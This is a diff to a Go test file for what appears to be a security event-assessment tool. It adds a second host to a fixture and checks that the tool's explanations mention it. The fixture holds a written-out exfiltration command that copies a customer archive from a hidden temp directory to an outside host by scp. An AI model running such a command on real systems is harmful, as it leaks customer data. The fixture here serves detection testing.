@@ -79,7 +79,15 @@ func recorded(t *testing.T) kept {
 	b.Keyword(ecs.ProcessName, "scp")
 	b.Keyword(ecs.ProcessTool, "scp")
 	b.Keyword(ecs.ProcessCommandLine, "scp -q /tmp/.c/customers.tar.gz deploy@203.0.113.9:in/")
-	return kept{withIndex(b.Build())}
+	other := ecs.NewBuilder(ecs.Host{ID: "h2", BootID: "b2", Name: "web-2", OS: ecs.OS{Type: "linux"}})
+	other.Event(ecs.Process, "exec", "start", night.Add(-2*time.Minute))
+	other.Keyword(ecs.ProcessName, "scp")
+	other.Keyword(ecs.ProcessEntityID, "on web-2")
+	other.Keyword(ecs.ProcessCommandLine, "scp -q /tmp/.c/customers.tar.gz deploy@203.0.113.9:in/")
+	both := frame.NewBuilder(ecs.Fields())
+	both.Append(b.Build())
+	both.Append(other.Build())
+	return kept{withIndex(both.Build())}
 }
 
 // withIndex adds the column that holders of rows give on request.
@@ -172,9 +180,10 @@ func TestTheGuideReadsItsAnswersFromEvents(t *testing.T) {
 	a.History = k
 	g := assess(t, a, f)
 	for id, want := range map[string]string{
-		"command": "like 13 of 13 scp runs in 13 d",
+		"command": "like 14 of 14 scp runs in 13 d",
 		"host":    "web-1 · agent 5c1e",
 		"left":    "203.0.113.9:22 new",
+		"others":  "same command on web-2 since 03:10",
 	} {
 		if got := answerOf(t, g, id).Why; !strings.Contains(got, want) {
 			t.Errorf("%s: %q lacks %q", id, got, want)
